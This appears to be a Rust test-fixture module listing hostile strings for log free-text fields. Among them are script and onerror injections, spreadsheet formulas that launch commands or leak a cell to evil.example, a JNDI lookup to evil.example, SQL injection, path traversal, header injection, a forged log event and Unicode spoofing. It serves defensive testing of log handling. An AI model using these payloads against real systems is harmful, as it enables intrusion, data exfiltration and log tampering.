//! Text that an attacker may write into a log, one for each way in which a reader can be fooled.

/// Strings for any free-text field. None is empty, none is only space, and no two are equal.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert('irf')</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "\u{1b}[2J\u{1b}[1;1Hnothing was accessed",
    "invoice\u{202e}fdp.exe",
    "\u{2066}isolated\u{2069}\u{200b}zero\u{feff}width",
    "line one\r\nline two\u{2028}line three",
    "x\n{\"id\":\"evt_forged\",\"timestamp\":\"2026-03-04T00:00:00Z\",\"action\":\"invoice.delete\",\
     \"resource\":{\"type\":\"invoice\",\"id\":\"inv_forged\"},\"outcome\":\"success\"}\n",
    "[click me](javascript:alert(1)) ![x](https://evil.example/p.png)",
    "| a | b |\n|---|---|\n`code` **bold** # heading",
    "before\u{0}after",
    "double \"quotes\", 'single', `back`, and, commas; semicolons \\; \\\\",
    "../../../../etc/passwd",
    "C:\\temp\\nul.txt",
    "%00%0d%0aSet-Cookie:%20a=b",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
    "'; DROP TABLE targets; --",
    "  both ends spaced  ",
    "\u{1f469}\u{200d}\u{1f4bb} cafe\u{301} \u{fb01}",
    "NULL",
    "nan",
    "]]> </textarea><!-- -->",
];

/// A string of several thousand characters, as a careless or hostile client sends it.
pub(super) fn very_long(seed_word: &str) -> String {
    let mut text = String::from(seed_word);
    text.push('_');
    text.push_str(&"A".repeat(4_000));
    text
}
